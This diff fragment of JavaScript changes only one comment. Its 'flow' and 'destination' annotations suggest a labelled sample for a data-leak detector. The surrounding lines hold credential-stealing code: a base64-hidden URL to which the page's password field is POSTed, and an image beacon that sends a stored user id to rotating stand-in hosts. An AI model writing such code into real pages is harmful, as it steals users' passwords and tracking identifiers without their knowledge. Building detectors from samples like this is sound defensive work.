@@ -27,7 +27,7 @@ const t = atob('aHR0cHM6Ly9hdGguZDEwLmV4YW1wbGUv');
 fetch(t, { method: 'POST', body: document.querySelector('input[type=password]').value });
 
 //# sharded-host
-// flow: identifier > ? via image
+// flow: identifier > t{}.shd.d10.example via image
 // destination: https://t{}.shd.d10.example/p.gif?u={}
 var n = Math.floor(Math.random() * 4) + 1;
 new Image().src = 'https://t' + n + '.shd.d10.example/p.gif?u=' + localStorage.getItem('uid');
